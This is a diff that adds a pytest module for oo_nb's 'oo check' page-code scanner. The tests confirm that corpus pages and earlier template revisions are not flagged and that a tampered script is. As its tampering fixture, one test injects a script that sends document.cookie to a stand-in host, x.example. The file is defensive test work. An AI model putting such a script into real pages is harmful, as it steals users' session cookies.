@@ -1,0 +1,66 @@
+"""Page code oo_nb wrote in earlier versions, and every real o-o document we hold, is known to
+``oo check``; a changed script in such a page still is not (issue 28, item 13)."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+from oo_nb.edit.sync import migrate_early, sync_document
+from oo_nb.format.document import Document
+from oo_nb.format.known_page_code import KNOWN_PAGE_CODE
+from oo_nb.format.page_code import page_code_findings, template_fingerprints
+from tests.conftest import CORPUS
+
+SHARED = Path("/work/shared/corpus")
+FOLDERS = [CORPUS, *([SHARED] if SHARED.is_dir() else [])]
+PAGES = sorted(p for folder in FOLDERS for p in folder.glob("*.o-o.html"))
+
+
+def _as_the_user_has_it(path: Path) -> list[tuple[str, Document]]:
+    """The page as published, and as `oo sync` (marker layout) or `oo sync --migrate` left it."""
+    doc = Document.read(path)
+    if doc.layout == "early":
+        return [("original", doc), ("migrated", migrate_early(doc))]
+    return [("original", doc), ("synced", sync_document(doc, ("css", "js", "shell"), None)[0])]
+
+
+@pytest.mark.parametrize("page", PAGES, ids=lambda p: f"{p.parent.name}/{p.name}")
+def test_no_corpus_document_is_flagged(page: Path) -> None:
+    for state, doc in _as_the_user_has_it(page):
+        assert page_code_findings(doc) == [], state
+
+
+def test_the_shared_corpus_is_covered_when_present() -> None:
+    if not SHARED.is_dir():
+        pytest.skip("no /work/shared/corpus on this machine: the repository's corpus stands in")
+    assert {p.name for p in SHARED.glob("*.o-o.html")} <= {p.name for p in PAGES}
+
+
+@pytest.mark.parametrize("page", PAGES, ids=lambda p: f"{p.parent.name}/{p.name}")
+def test_a_changed_script_is_still_flagged(page: Path) -> None:
+    for state, doc in _as_the_user_has_it(page):
+        start = doc.text.find("<script>")  # the first page script (the policy bootstrap or o-o's)
+        assert start > 0, state
+        changed = Document(
+            doc.text[:start]
+            + "<script>fetch('//x.example/'+document.cookie)</script>\n"
+            + doc.text[start:]
+        )
+        assert [f[0] for f in page_code_findings(changed)] in (["warning"], ["info"]), state
+
+
+def test_what_every_earlier_template_revision_wrote_stays_known() -> None:
+    """A page an earlier oo_nb made or synced stays known after an upgrade (each revision that
+    changed the templates, rendered by its own code: ``tools.page_fingerprints --history``)."""
+    if shutil.which("git") is None or not (CORPUS.parents[2] / ".git").exists():
+        pytest.skip("needs the repository's git history")
+    from tools.page_fingerprints import rendered_at, template_revisions
+
+    known = KNOWN_PAGE_CODE | template_fingerprints()
+    revisions = template_revisions()
+    assert len(revisions) >= 13  # (as many as when the fingerprints were made, or more)
+    missing = {rev: rendered_at(rev) - known for rev in revisions}
+    assert {rev: len(m) for rev, m in missing.items() if m} == {}
